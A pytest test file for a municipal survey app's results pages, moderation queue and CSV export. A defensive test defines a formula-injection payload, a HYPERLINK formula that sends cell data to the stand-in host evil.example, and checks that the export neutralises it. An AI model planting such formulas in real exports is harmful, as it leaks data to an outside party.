"""Results: counts for admins, a public summary with small counts suppressed, free text only
after moderation, and the CSV export."""
from __future__ import annotations

import csv
import io

import pytest
from werkzeug.datastructures import MultiDict

from app.accounts.models import Role
from app.core.extensions import db as _db
from app.moderation.models import Decision, ModerationState
from app.moderation.queries import count_waiting
from app.moderation.services import decide
from app.surveys.services import read_answers, submit_response
from app.surveys.models import SurveyTextAnswer
from app.surveys.results import Row, suppress_small_counts
from tests.surveys.factories import build_survey, valid_answers
from sqlalchemy import select


@pytest.fixture
def asker(make_municipality):
    return make_municipality("Asker")


def add(app, survey, n: int, **changes) -> None:
    """`n` responses: the valid answers with `changes` (question index -> form value)."""
    with app.test_request_context():
        for _ in range(n):
            values = valid_answers(survey)
            for index, value in changes.items():
                question = survey.questions[int(index[1:])]
                values[question.field_name] = value
            data = MultiDict()
            for key, value in values.items():
                for item in value if isinstance(value, list) else [value]:
                    data.add(key, item)
            answers = read_answers(survey, data)
            assert answers.ok, answers.errors
            import secrets

            submit_response(survey, answers, nonce=secrets.token_hex(8), channel="page")
        _db.session.commit()


def test_suppression_hides_counts_under_5_and_one_more_when_it_could_be_derived():
    rows = [Row("A", "nb", 10), Row("B", "nb", 3), Row("C", "nb", 7)]
    for row in rows:
        row.shown, row.percent = row.count, 1.0
    suppress_small_counts(rows, 20)
    assert [r.shown for r in rows] == [10, None, None]  # B < 5, and C, else B = 20 - 10 - 7
    rows = [Row("A", "nb", 10), Row("B", "nb", 3), Row("C", "nb", 0)]
    for row in rows:
        row.shown = row.count
    suppress_small_counts(rows, 13)
    assert [r.shown for r in rows] == [10, None, None]  # two hidden: their sum is all one knows


def test_admin_results_count_every_answer(app, client, auth, make_user, asker):
    survey = build_survey(asker)
    add(app, survey, 3)
    add(app, survey, 2, q0=str(survey.questions[0].options[0].id), q3="1")
    auth.login(make_user(role=Role.admin, municipality=asker))
    html = client.get(f"/asker/admin/undersokelser/{survey.id}/resultater?lang=en").get_data(as_text=True)
    assert "5 responses" in html
    assert "<caption" in html and 'scope="row"' in html  # a table with every chart
    assert 'aria-hidden="true"' in html  # the SVG is decoration; the table carries the numbers
    assert "<td>3</td>" in html and "<td>2</td>" in html  # small counts are shown to admins
    assert "60,0 %" in html or "60.0 %" in html
    assert "Asker sentrum" in html and "waiting for moderation" in html


def test_public_summary_suppresses_small_counts_and_hides_unmoderated_text(app, client, asker):
    survey = build_survey(asker, public_results=True)
    add(app, survey, 6)
    add(app, survey, 2, q0=str(survey.questions[0].options[0].id))
    html = client.get(f"/asker/undersokelser/{survey.id}/resultater?lang=en").get_data(as_text=True)
    assert "8 responses" in html
    assert "<td>6</td>" in html  # bus or train
    assert "<td>2</td>" not in html and "fewer than 5" in html
    assert "Asker sentrum" not in html and "published only after moderation" in html
    assert "Average" not in html or "35" in html


def test_public_summary_of_fewer_than_5_responses_shows_no_numbers(app, client, asker):
    survey = build_survey(asker, public_results=True)
    add(app, survey, 4)
    html = client.get(f"/asker/undersokelser/{survey.id}/resultater?lang=en").get_data(as_text=True)
    assert "Fewer than 5 responses so far." in html
    assert "<td>4</td>" not in html and "Median" not in html


def test_public_summary_is_404_unless_the_admins_publish_it(app, client, asker):
    survey = build_survey(asker, public_results=False)
    assert client.get(f"/asker/undersokelser/{survey.id}/resultater").status_code == 404


def test_free_text_enters_the_moderation_queue_and_is_public_only_when_approved(
        app, client, db, make_user, asker, outbox):
    moderator = make_user(role=Role.moderator, municipality=asker)
    survey = build_survey(asker, public_results=True)
    add(app, survey, 5)
    texts = db.session.scalars(select(SurveyTextAnswer)).all()
    assert len(texts) == 10
    assert all(t.moderation_state is ModerationState.pending and t.author_id is None for t in texts)
    assert count_waiting(asker) == 10
    assert any(moderator.email in m["To"] for m in outbox)  # the moderators were told
    with app.test_request_context():
        decide(texts[0], moderator, Decision.approve)
        decide(texts[1], moderator, Decision.reject, "Personopplysninger")
        db.session.commit()
    html = client.get(f"/asker/undersokelser/{survey.id}/resultater?lang=en").get_data(as_text=True)
    assert html.count(texts[0].body) == 1 and texts[1].body not in html.replace(texts[0].body, "")


def test_csv_export_has_one_row_per_response_no_accounts_and_no_formulas(app, client, auth,
                                                                         make_user, asker):
    survey = build_survey(asker, requires_login=False)
    add(app, survey, 2, q4="=HYPERLINK(\"http://x\")")
    auth.login(make_user(role=Role.admin, municipality=asker))
    response = client.get(f"/asker/admin/undersokelser/{survey.id}/svar.csv?lang=en")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert len(rows) == 3
    header, first = rows[0], rows[1]
    assert header[:3] == ["Response", "Submitted (hour)", "Channel"]
    assert header[3] == "1. Hvordan reiser du oftest?"
    assert first[3] == "Buss eller tog"
    assert first[4] == "Billigere billetter; Bedre sykkelveier"
    assert first[10] == "Buss > Sykkel > Vei"
    assert first[7].startswith("'=HYPERLINK")  # a spreadsheet will not run it
    assert "@" not in text  # no e-mail addresses, no accounts


HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Se vedlegg")'


def test_csv_export_cells_never_run_as_formulas(app, client, auth, make_user, asker):
    survey = build_survey(asker, requires_login=False)
    single, ranking = survey.questions[0], survey.questions[7]
    single.options[1].label_nb = HOSTILE  # the option the valid answers choose
    ranking.options[0].label_nb = "+" + HOSTILE  # ranked first
    _db.session.commit()
    add(app, survey, 1, q4=HOSTILE, q5="@evil.example")
    auth.login(make_user(role=Role.admin, municipality=asker))
    response = client.get(f"/asker/admin/undersokelser/{survey.id}/svar.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff") and text.endswith("\r\n")
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert row[3] == "'" + HOSTILE  # an option label
    assert row[7] == "'" + HOSTILE and row[8] == "'@evil.example"  # free text
    assert row[10].startswith("'+" + HOSTILE + " > ")  # a ranking
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in header + row)


def test_closed_surveys_with_public_results_are_listed(client, db, asker):
    from datetime import datetime, timedelta, timezone

    closed = build_survey(asker, public_results=True, title="Gammel undersøkelse",
                          closes_at=datetime.now(timezone.utc) - timedelta(days=1))
    build_survey(asker, public_results=False, title="Hemmelig",
                 closes_at=datetime.now(timezone.utc) - timedelta(days=1))
    html = client.get("/asker/undersokelser/?lang=en").get_data(as_text=True)
    assert "No survey is open right now." in html
    assert f"/asker/undersokelser/{closed.id}/resultater" in html and "Hemmelig" not in html


@pytest.mark.parametrize("path", ["resultater", "svar.csv"])
def test_results_and_export_take_the_same_queries_for_10_or_40_responses(app, client, auth, db,
                                                                         make_user, asker, path):
    from sqlalchemy import event

    survey = build_survey(asker)
    auth.login(make_user(role=Role.admin, municipality=asker))
    url = f"/asker/admin/undersokelser/{survey.id}/{path}"

    def queries() -> int:
        seen = []
        listener = lambda *args: seen.append(1)  # noqa: E731
        event.listen(db.engine, "before_cursor_execute", listener)
        try:
            assert client.get(url).status_code == 200
        finally:
            event.remove(db.engine, "before_cursor_execute", listener)
        return len(seen)

    add(app, survey, 10)
    few = queries()
    add(app, survey, 30)
    assert queries() == few
